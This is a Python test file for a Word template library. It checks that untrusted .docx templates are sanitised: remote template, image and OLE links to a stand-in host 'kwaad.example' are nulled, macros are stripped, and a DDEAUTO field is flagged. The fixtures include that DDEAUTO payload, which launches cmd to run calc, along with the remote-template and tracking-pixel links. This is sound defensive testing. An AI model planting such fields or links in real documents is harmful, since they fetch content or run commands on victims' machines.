"""A template of a stranger fetches and runs nothing when its documents are opened."""

from __future__ import annotations

from tests.office.word.building import OFFICE, lines, make_file, paragraph

from ibndocs.office.package import CONTENT_TYPES, Package, relationships_part
from ibndocs.office.word.template import WordTemplate

MAIN = "word/document.xml"
RELATIONSHIP = '<Relationship Id="{id}" Type="{type}" Target="{target}"{mode}/>'
EXTERNAL = ' TargetMode="External"'


def make_package(*relationships: tuple[str, str, str], body: str = "") -> Package:
    """A Word file with these relationships (type, target, mode) of its main part."""
    package = Package.read(make_file(paragraph("{{ x }}") + body), name="brief.docx")
    rels = relationships_part(MAIN)
    added = "".join(
        RELATIONSHIP.format(id=f"r{number}", type=kind, target=target, mode=mode)
        for number, (kind, target, mode) in enumerate(relationships)
    )
    changed = package.part(rels).replace(b"</Relationships>", f"{added}</Relationships>".encode())
    return package.with_parts({rels: changed})


def test_links_that_are_followed_unasked_lead_nowhere() -> None:
    made = make_package(
        (f"{OFFICE}/attachedTemplate", "https://kwaad.example/a.dotm", EXTERNAL),
        (f"{OFFICE}/image", "http://kwaad.example/pixel.png", EXTERNAL),
        (f"{OFFICE}/oleObject", "file://kwaad/deel", EXTERNAL),
        (f"{OFFICE}/hyperlink", "https://voorbeeld.be", EXTERNAL),
    )
    template = WordTemplate.compile(made)
    assert [finding.id for finding in template.warnings] == ["OFF11"] * 3
    assert "attachedTemplate: https://kwaad.example/a.dotm" in template.warnings[0].message.nl
    letter = Package.read(template.render({"x": "a"}))
    assert [item.target for item in letter.relationships(MAIN)] == ["NULL", "NULL", "NULL", "https://voorbeeld.be"]
    assert b"kwaad" not in letter.part(relationships_part(MAIN))


def test_macros_stay_behind_and_are_told() -> None:
    made = make_package(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""))
    types = made.part(CONTENT_TYPES).replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    template = WordTemplate.compile(made.with_parts({"word/vbaProject.bin": b"code", CONTENT_TYPES: types}))
    assert [finding.message.nl for finding in template.warnings] == ["macro's blijven weg (word/vbaProject.bin)"]
    letter = Package.read(template.render({"x": "a"}))
    assert "word/vbaProject.bin" not in letter
    assert "macroEnabled" not in letter.content_type(MAIN)
    assert lines(letter) == ["a"]


def test_fields_that_fetch_are_told() -> None:
    field = '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd "/k calc" </w:instrText></w:r></w:p>'
    (warning,) = WordTemplate.compile(make_package(body=field)).warnings
    assert warning.message.en == "word/document.xml: field DDEAUTO fetches something from outside"


def test_a_template_without_any_of_these_is_left_as_it_is() -> None:
    assert WordTemplate.compile(make_package()).warnings == ()
